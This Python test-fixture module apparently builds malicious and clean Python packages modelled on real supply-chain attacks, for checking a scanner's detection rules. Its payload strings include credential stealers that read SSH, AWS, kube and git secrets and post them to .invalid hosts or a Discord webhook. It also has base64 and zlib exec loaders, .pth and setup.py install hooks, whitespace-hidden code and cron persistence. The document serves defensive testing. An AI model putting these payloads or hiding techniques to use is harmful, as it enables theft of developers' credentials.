"""Packages in the shape of real attacks (and the clean packages they were cut from), built in code.

Each builder writes one wheel or sdist under the directory it is given and returns its path.
Payloads are inert text to us: they are parsed, never run. Network targets are `.invalid` names.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from pathlib import Path

from support.packages import make_sdist, make_wheel

Builder = Callable[[Path], Path]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _dir(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    return directory


# The stealer body shared by several shapes: what litellm's payload collected and how it left.
STEALER = """\
import os, subprocess, glob
home = os.path.expanduser("~")
loot = {k: v for k, v in os.environ.items()}
for rel in (".ssh/id_rsa", ".aws/credentials", ".kube/config", ".docker/config.json", ".git-credentials"):
    try:
        loot[rel] = open(os.path.join(home, rel)).read()
    except OSError:
        pass
open("/tmp/tpcp.json", "w").write(repr(loot))
subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-in", "/tmp/tpcp.json", "-out", "/tmp/payload.enc"])
subprocess.run(["tar", "czf", "/tmp/tpcp.tar.gz", "/tmp/payload.enc"])
subprocess.run(["curl", "-s", "-X", "POST", "-H", "X-Filename: tpcp.tar.gz", "--data-binary", "@/tmp/tpcp.tar.gz",
                "https://models.litellm.invalid/"])
"""

PROXY_SERVER_CLEAN = """\
import os
import httpx
from fastapi import FastAPI

app = FastAPI()
master_key = os.environ.get("LITELLM_MASTER_KEY")


async def forward(url: str, payload: dict) -> dict:
    async with httpx.AsyncClient() as client:
        resp = await client.post(url, json=payload)
    return resp.json()


@app.get("/health")
async def health() -> dict:
    return {"status": "ok"}
"""

LITELLM_INIT = "from litellm.main import completion\n__version__ = '1.82.6'\n"
LITELLM_MAIN = """\
import os
import requests


def completion(model, messages, api_base=None):
    key = os.environ.get("OPENAI_API_KEY")
    netrc = os.path.expanduser("~/.netrc")
    return requests.post(api_base or "https://api.openai.invalid/v1/chat", json={"model": model}, headers={"k": key})
"""


def _litellm_files(proxy_server: str) -> dict[str, str]:
    return {
        "litellm/__init__.py": LITELLM_INIT,
        "litellm/main.py": LITELLM_MAIN,
        "litellm/proxy/__init__.py": "",
        "litellm/proxy/proxy_server.py": proxy_server,
    }


def litellm_clean(directory: Path) -> Path:
    return make_wheel(_dir(directory), "litellm", "1.82.6", _litellm_files(PROXY_SERVER_CLEAN))


def litellm_1_82_7(directory: Path) -> Path:
    """Base64 payload executed when `litellm.proxy.proxy_server` is imported."""
    injected = PROXY_SERVER_CLEAN.replace(
        "app = FastAPI()",
        f"import base64\nexec(base64.b64decode('{_b64(STEALER)}'))\napp = FastAPI()",
    )
    return make_wheel(_dir(directory), "litellm", "1.82.7", _litellm_files(injected))


def _litellm_pth_line() -> str:
    stage1 = f'import base64\nB64_SCRIPT = "{_b64(STEALER)}"\nexec(base64.b64decode(B64_SCRIPT))\n'
    child = f"import base64; exec(base64.b64decode('{_b64(stage1)}'))"
    return f"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', {child!r}])\n"


def litellm_1_82_8(directory: Path) -> Path:
    """One-line `.pth`: a child interpreter runs nested base64 at every interpreter start."""
    files = {**_litellm_files(PROXY_SERVER_CLEAN), "litellm_init.pth": _litellm_pth_line()}
    return make_wheel(_dir(directory), "litellm", "1.82.8", files)


TELNYX_CLEAN = """\
import httpx


class Telnyx:
    def __init__(self, api_key):
        self._client = httpx.Client(base_url="https://api.telnyx.invalid")
        self.api_key = api_key

    def call(self, number):
        return self._client.post("/calls", json={"to": number})
"""

TELNYX_WAV = """\
import io, threading, urllib.request, wave


def _ring():
    raw = urllib.request.urlopen("http://ring.telnyx-cdn.invalid:8080/ringtone.wav").read()
    with wave.open(io.BytesIO(raw)) as w:
        frames = w.readframes(w.getnframes())
    key = b"k3y"
    payload = bytes(b ^ key[i % len(key)] for i, b in enumerate(frames))
    exec(payload.decode())


threading.Thread(target=_ring, daemon=True).start()
"""


def telnyx_clean(directory: Path) -> Path:
    files = {"telnyx/__init__.py": "from telnyx._client import Telnyx\n", "telnyx/_client.py": TELNYX_CLEAN}
    return make_wheel(_dir(directory), "telnyx", "4.87.0", files)


def telnyx_wav(directory: Path) -> Path:
    """Payload fetched inside a WAV file and XOR-decoded at import of `telnyx._client`."""
    files = {
        "telnyx/__init__.py": "from telnyx._client import Telnyx\n",
        "telnyx/_client.py": TELNYX_CLEAN + TELNYX_WAV,
    }
    return make_wheel(_dir(directory), "telnyx", "4.87.1", files)


LIGHTNING_INIT_CLEAN = """\
import logging
from lightning.trainer import Trainer

_logger = logging.getLogger(__name__)
__all__ = ["Trainer"]
"""

LIGHTNING_INIT_THREAD = (
    LIGHTNING_INIT_CLEAN
    + """
import os, subprocess, sys, threading


def _start_runtime():
    here = os.path.dirname(__file__)
    subprocess.Popen([sys.executable, os.path.join(here, "_runtime", "start.py")],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


threading.Thread(target=_start_runtime, daemon=True).start()
"""
)

LIGHTNING_START = """\
import os, subprocess, urllib.request, zipfile

BUN = "https://github.com/oven-sh/bun/releases/download/bun-v1.1.0/bun-linux-x64.zip"


def main():
    dest = os.path.expanduser("~/.cache/.bunrt")
    urllib.request.urlretrieve(BUN, dest + ".zip")
    zipfile.ZipFile(dest + ".zip").extractall(dest)
    os.chmod(os.path.join(dest, "bun"), 0o755)
    subprocess.Popen([os.path.join(dest, "bun"), "router_runtime.js"])


main()
"""


def lightning_clean(directory: Path) -> Path:
    files = {"lightning/__init__.py": LIGHTNING_INIT_CLEAN, "lightning/trainer.py": "class Trainer:\n    pass\n"}
    return make_wheel(_dir(directory), "lightning", "2.6.1", files)


def lightning_runtime(directory: Path) -> Path:
    """A thread started at import launches a child interpreter that fetches and runs Bun."""
    files = {
        "lightning/__init__.py": LIGHTNING_INIT_THREAD,
        "lightning/trainer.py": "class Trainer:\n    pass\n",
        "lightning/_runtime/__init__.py": "",
        "lightning/_runtime/start.py": LIGHTNING_START,
        "lightning/_runtime/router_runtime.js": "var _0x4f2a=['\\x68\\x6f\\x6d\\x65'];function _0x1b(){}\n",
    }
    return make_wheel(_dir(directory), "lightning", "2.6.2", files)


BUN_DROPPER = """\
import os, subprocess, urllib.request
if not os.path.exists("/tmp/.bun_ran"):
    open("/tmp/.bun_ran", "w").write("1")
    urllib.request.urlretrieve("https://github.com/oven-sh/bun/releases/latest/download/bun-linux-x64.zip", "/tmp/b.zip")
    subprocess.Popen(["/tmp/bun/bun", "/tmp/bun/stealer.js"], stdout=subprocess.DEVNULL)
"""


def pth_dropper(directory: Path) -> Path:
    """`<pkg>-setup.pth` with a single exec() of zlib+base64 (the 2026 science-package droppers)."""
    blob = base64.b64encode(zlib.compress(BUN_DROPPER.encode())).decode()
    line = f"import zlib, base64; exec(zlib.decompress(base64.b64decode('{blob}')))\n"
    files = {"gpsea/__init__.py": "__version__ = '0.9.14'\n", "gpsea-setup.pth": line}
    return make_wheel(_dir(directory), "gpsea", "0.9.14", files)


def pth_clean(directory: Path) -> Path:
    """Legitimate executable `.pth` lines (setuptools, virtualenv) next to a plain package."""
    files = {
        "gpsea/__init__.py": "__version__ = '0.9.13'\n",
        "distutils-precedence.pth": (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim(); \n"
        ),
        "_virtualenv.pth": "import _virtualenv\n",
        "_virtualenv.py": "import sys\n\ndef _patch():\n    return sys.path\n",
    }
    return make_wheel(_dir(directory), "gpsea", "0.9.13", files)


MRMUSTARD_INIT_CLEAN = """\
from mrmustard.lab import Circuit
from mrmustard import math

__version__ = "0.7.3"
"""

MRMUSTARD_INJECTED = (
    MRMUSTARD_INIT_CLEAN.replace("0.7.3", "0.7.4")
    + """
import threading


def _check_tf_compatibility():
    import json, os, urllib.request
    home = os.path.expanduser("~")
    data = {}
    for rel in (".ssh/id_rsa", ".aws/credentials", ".kube/config"):
        try:
            data[rel] = open(os.path.join(home, rel)).read()
        except OSError:
            pass
    req = urllib.request.Request("https://metrics.femboy.invalid/v1", data=json.dumps(data).encode())
    urllib.request.urlopen(req)
    os.system('(crontab -l; echo "@reboot python3 -c import\\\\ mrmustard") | crontab -')


threading.Thread(target=_check_tf_compatibility, daemon=True).start()
"""
)


def _mrmustard_files(init: str) -> dict[str, str]:
    return {
        "mrmustard/__init__.py": init,
        "mrmustard/lab.py": "class Circuit:\n    pass\n",
        "mrmustard/math.py": "pi = 3.14159\n",
    }


def mrmustard_clean(directory: Path) -> Path:
    return make_wheel(_dir(directory), "mrmustard", "0.7.3", _mrmustard_files(MRMUSTARD_INIT_CLEAN))


def mrmustard_injected(directory: Path) -> Path:
    """A function injected into `__init__`, run in a thread: credential theft + cron persistence."""
    return make_wheel(_dir(directory), "mrmustard", "0.7.4", _mrmustard_files(MRMUSTARD_INJECTED))


SETUP_CLEAN = """\
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext


class CMakeBuild(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "."])


with open("README.md") as f:
    long_description = f.read()

exec(open("fastthing/_version.py").read())
setup(name="fastthing", version="1.0", cmdclass={"build_ext": CMakeBuild}, long_description=long_description)
"""

SETUP_STEALER = """\
import getpass, os, socket
import requests
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        env = dict(os.environ)
        creds = open(os.path.expanduser("~/.aws/credentials")).read()
        requests.post("https://collector.invalid/i", json={"u": getpass.getuser(), "h": socket.gethostname(), "env": env, "aws": creds})


setup(name="fastthing", version="1.0.1", cmdclass={"install": PostInstall})
"""


def setup_clean(directory: Path) -> Path:
    files = {
        "setup.py": SETUP_CLEAN,
        "fastthing/__init__.py": "",
        "fastthing/_version.py": "__version__ = '1.0'\n",
        "README.md": "x",
    }
    return make_sdist(_dir(directory), "fastthing", "1.0", files)


def setup_stealer(directory: Path) -> Path:
    """An sdist whose setup.py install command steals credentials at install time."""
    files = {"setup.py": SETUP_STEALER, "fastthing/__init__.py": ""}
    return make_sdist(_dir(directory), "fastthing", "1.0.1", files)


W4SP_PAYLOAD = """\
import os, re, json, urllib.request
local = os.getenv("LOCALAPPDATA")
roaming = os.getenv("APPDATA")
paths = {"Discord": roaming + "\\\\discord\\\\Local Storage\\\\leveldb", "Chrome": local + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"}
tokens = []
for name, path in paths.items():
    for file in os.listdir(path):
        tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(os.path.join(path, file), errors="ignore").read())
req = urllib.request.Request("https://discord.com/api/webhooks/1/xyz", data=json.dumps({"content": str(tokens)}).encode())
urllib.request.urlopen(req)
"""


def w4sp_stealer(directory: Path) -> Path:
    """Whitespace-padded `__import__('builtins').exec(...b64decode...)`, whatever the package is called."""
    pad = " " * 300
    line = (
        f"__title__ = 'colorsapi'{pad};__import__('builtins').exec(__import__('builtins').compile("
        f"__import__('base64').b64decode(\"{_b64(W4SP_PAYLOAD)}\"),'<string>','exec'))\n"
    )
    files = {"colorsapi/__init__.py": "def colour(x):\n    return x\n" + line}
    return make_wheel(_dir(directory), "colorsapi", "6.6.7", files)


def w4sp_fernet(directory: Path) -> Path:
    """The Fernet variant: the payload cannot be decrypted statically, the decrypt-then-exec can be seen."""
    line = "from cryptography.fernet import Fernet\nexec(Fernet(b'aGVsbG8=').decrypt(b'gAAAAABkZ0x'))\n"
    files = {"pycolourz/__init__.py": line}
    return make_wheel(_dir(directory), "pycolourz", "1.0", files)


def colors_clean(directory: Path) -> Path:
    files = {
        "colorsapi/__init__.py": "import os\n\nTERM = os.getenv('TERM')\n\ndef colour(x):\n    return x\n",
        "colorsapi/fetch.py": "import requests\n\ndef palette(url):\n    return requests.get(url).json()\n",
    }
    return make_wheel(_dir(directory), "colorsapi", "6.6.6", files)


PKG_BOOT = """\
import os, json, urllib.request
secrets = {"env": dict(os.environ), "ssh": open(os.path.expanduser("~/.ssh/id_ed25519")).read()}
urllib.request.urlopen("https://boot.pkg.invalid/c", data=json.dumps(secrets).encode())
"""


def pth_import_boot(directory: Path) -> Path:
    """A `.pth` whose only line is `import pkg_boot`; the payload sits in `pkg_boot.py`."""
    files = {"pkg_boot.py": PKG_BOOT, "zz_pkg.pth": "import pkg_boot\n", "pkg/__init__.py": ""}
    return make_wheel(_dir(directory), "pkg", "1.0", files)


def pth_import_clean(directory: Path) -> Path:
    files = {
        "pkg_boot.py": "import sys\nsys.dont_write_bytecode = True\n",
        "zz_pkg.pth": "import pkg_boot\n",
        "pkg/__init__.py": "",
    }
    return make_wheel(_dir(directory), "pkg", "1.0", files)


THREAD_SYSTEM = """\
import os, threading


def _update_cache():
    os.system("id > /tmp/.cache_id; uname -a >> /tmp/.cache_id")


threading.Thread(target=_update_cache, daemon=True).start()
"""

THREAD_CLEAN = """\
import threading
import queue

_jobs = queue.Queue()


def _worker():
    while True:
        _jobs.get()()


threading.Thread(target=_worker, daemon=True).start()
"""


def thread_system(directory: Path) -> Path:
    """A thread started at import runs `os.system`."""
    return make_wheel(_dir(directory), "cachetool", "1.1", {"cachetool/__init__.py": THREAD_SYSTEM})


def thread_clean(directory: Path) -> Path:
    return make_wheel(_dir(directory), "cachetool", "1.0", {"cachetool/__init__.py": THREAD_CLEAN})


#: (attack, malicious builder, clean builder, rule expected on the malicious one)
ATTACKS: dict[str, tuple[Builder, Builder, str]] = {
    "litellm-1.82.7": (litellm_1_82_7, litellm_clean, "CW201"),
    "litellm-1.82.8": (litellm_1_82_8, litellm_clean, "CW201"),
    "telnyx-wav": (telnyx_wav, telnyx_clean, "CW201"),
    "lightning-runtime": (lightning_runtime, lightning_clean, "CW208"),
    "pth-zlib-dropper": (pth_dropper, pth_clean, "CW201"),
    "mrmustard": (mrmustard_injected, mrmustard_clean, "CW203"),
    "setup-stealer": (setup_stealer, setup_clean, "CW203"),
    "w4sp": (w4sp_stealer, colors_clean, "CW201"),
    "w4sp-fernet": (w4sp_fernet, colors_clean, "CW201"),
    "pth-import-boot": (pth_import_boot, pth_import_clean, "CW203"),
    "thread-os-system": (thread_system, thread_clean, "CW208"),
}
